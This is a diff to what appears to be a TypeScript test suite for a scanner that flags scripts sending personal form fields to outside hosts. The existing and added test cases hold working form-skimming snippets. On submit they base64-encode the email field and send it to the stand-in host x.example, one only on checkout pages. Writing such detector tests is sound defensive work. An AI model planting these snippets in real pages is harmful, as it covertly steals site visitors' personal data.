@@ -17,6 +17,10 @@ const cases: Record<string, [string, string[]]> = {
     `document.querySelector('form').addEventListener('submit',function(){new Image().src='https://x.example/?d='+btoa(document.querySelector('#email').value)})`,
     ['medium personal-field-to-host'],
   ],
+  'an address alone, on the checkout, in base64 as marketing tools send it': [
+    `if(/checkout/.test(location.pathname))document.querySelector('form').addEventListener('submit',function(){new Image().src='https://x.example/?d='+encodeURIComponent(btoa(JSON.stringify({e:document.querySelector('input[type=email]').value})))})`,
+    ['medium checkout-gate', 'medium personal-field-to-host'],
+  ],
 };
 
 describe('personal fields', () => {
